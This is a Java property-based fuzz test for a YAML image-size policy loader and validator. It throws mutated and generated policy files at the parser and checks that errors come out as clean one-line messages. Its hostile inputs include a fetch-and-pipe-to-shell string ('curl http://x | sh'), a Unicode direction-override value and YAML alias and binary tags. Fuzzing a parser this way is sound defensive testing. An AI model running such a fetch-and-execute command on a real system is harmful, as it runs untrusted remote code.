package io.weighbridge.policy;

import static org.junit.jupiter.api.Assertions.assertNotNull;

import io.weighbridge.fuzz.Fuzz;
import io.weighbridge.fuzz.Mutations;
import io.weighbridge.image.BaseImage;
import io.weighbridge.image.Deadline;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/**
 * Policy files (YAML) through the reader and the validator: mutations of every policy in the
 * repository (shipped, examples, test fixtures valid and invalid) and policies built from the
 * schema's fields with hostile values. Each file is read within the bound into policies or into
 * problems, each problem one line naming no Java class; policies that pass the validator judge an
 * image without failing.
 */
class PolicyFileFuzzTest {
    private static final FakeWeigher WEIGHER = new FakeWeigher()
            .with(FakeWeigher.image(
                    "registry.example/team/app:1", BaseImage.UNKNOWN, 300 * FakeWeigher.MIB, 2 * FakeWeigher.MIB))
            .failing(
                    "registry.example/team/broken:1",
                    "cannot weigh registry.example/team/broken:1: \"manifest unknown\"");

    static List<String> seeds() {
        return Stream.of("policies/valid", "policies/invalid", "e2e/policies", "policy-cases")
                .flatMap(dir -> Fuzz.texts(dir).stream())
                .toList();
    }

    @Provide
    Arbitrary<String> policyFiles() {
        Arbitrary<String> value = Arbitraries.of(
                "5Gi",
                "0",
                "-1Mi",
                "1e3",
                "0.5Gi",
                "9223372036854775807",
                "9223372036854775808",
                "99999999Ei",
                "1Ki",
                "\"\"",
                "null",
                "~",
                "[]",
                "{}",
                "deny",
                "warn",
                "allow",
                "audit",
                "\"\\u202eadmin\"",
                "\"run: curl http://x | sh\"",
                "*a",
                "&a x",
                "!!binary AAAA",
                "2147483648",
                "1.5",
                "true",
                "\"**\"",
                "[\"*\"]");
        Arbitrary<String> key = Arbitraries.of(
                "maxSize",
                "maxLayers",
                "maxLayerSize",
                "action",
                "name",
                "preferredBases",
                "namespaces",
                "excludeNamespaces",
                "kinds",
                "excludeImages",
                "onRegistryError",
                "enforcement",
                "unknown",
                "<<");
        Arbitrary<String> rule = Combinators.combine(key, value, key, value)
                .as((k1, v1, k2, v2) -> "    - name: r\n      " + k1 + ": " + v1 + "\n      " + k2 + ": " + v2 + "\n");
        Arbitrary<String> generated = Combinators.combine(
                        rule.list().ofMaxSize(4),
                        key,
                        value,
                        Arbitraries.integers().between(1, 3))
                .as((rules, specKey, specValue, documents) ->
                        ("""
                        apiVersion: weighbridge.io/v1alpha1
                        kind: ImageSizePolicy
                        metadata:
                          name: fuzz
                        spec:
                          %s: %s
                          rules:
                        %s---
                        """.formatted(specKey, specValue, String.join("", rules))).repeat(documents));
        return Arbitraries.oneOf(
                Mutations.ofIncludingSeeds(seeds()), generated, generated.flatMap(one -> Mutations.of(List.of(one))));
    }

    @Property
    void everyFileIsReadIntoPoliciesOrOneLineProblems(@ForAll("policyFiles") String yaml) throws Exception {
        assertReadIntoPoliciesOrOneLineProblems(yaml);
    }

    /**
     * Found by the property: the value a problem quotes kept its direction override. Before:
     * {@code problem holds U+202E: fuzz.yaml:10: spec.rules[0].maxLayers: must be a whole number, got <U+202E>admin}.
     */
    @Example
    void aProblemQuotesTheFileReadably() throws Exception {
        assertReadIntoPoliciesOrOneLineProblems("""
                apiVersion: weighbridge.io/v1alpha1
                kind: ImageSizePolicy
                metadata:
                  name: fuzz
                spec:
                  rules:
                    - name: r
                      maxLayers: "\u202eadmin"
                      action: deny
                """);
    }

    /**
     * Found by the long run: a file ending in an escape without its hex digits made SnakeYAML throw
     * a NumberFormatException past the loader. Before: {@code java.lang.NumberFormatException: For
     * input string: "" under radix 16}.
     */
    @Example
    void anEscapeCutOffByTheEndOfTheFileIsAProblem() throws Exception {
        for (String escape : List.of("\\x", "\\u", "\\U")) {
            PolicyValidationException invalid = org.junit.jupiter.api.Assertions.assertThrows(
                    PolicyValidationException.class,
                    () -> PolicyLoader.parse("apiVersion: weighbridge.io/v1alpha1\nkind: \"" + escape, "cut.yaml"));
            org.junit.jupiter.api.Assertions.assertEquals(
                    "cut.yaml:2: invalid YAML: an escape sequence (\\x, \\u or \\U) is cut off by the end of the file",
                    invalid.problems().get(0).toString());
        }
        assertReadIntoPoliciesOrOneLineProblems("apiVersion: weighbridge.io/v1alpha1\nkind: \"\\x");
    }

    /** What every file gets (also {@link PolicyFileJazzerTest}'s promise). */
    static void assertReadIntoPoliciesOrOneLineProblems(String yaml) throws Exception {
        Object read = Fuzz.within(Fuzz.HANG, () -> {
            try {
                return PolicyLoader.parse(yaml, "fuzz.yaml");
            } catch (PolicyValidationException invalid) {
                return invalid;
            }
        });
        if (read instanceof PolicyValidationException invalid) {
            for (PolicyProblem problem : invalid.problems()) {
                Fuzz.assertOneLine("problem", problem.toString());
                Fuzz.assertNoJavaNames("problem", problem.message(), yaml);
            }
            return;
        }
        PolicySet policies = (PolicySet) read;
        List<ImageUse> images = new ArrayList<>(
                List.of(ImageUse.of("registry.example/team/app:1"), ImageUse.of("registry.example/team/broken:1")));
        Evaluation evaluation = Fuzz.within(
                Fuzz.HANG,
                () -> new DefaultPolicyEngine(WEIGHER, () -> policies)
                        .evaluate(new EvaluationRequest(
                                "team-a", "Deployment", images, null, Deadline.in(Duration.ofSeconds(5))))
                        .join());
        assertNotNull(evaluation.verdict());
        for (Finding finding : evaluation.findings().toList()) {
            Fuzz.assertOneLine("finding", finding.message());
            Fuzz.assertNoJavaNames("finding", finding.message(), yaml);
        }
    }
}
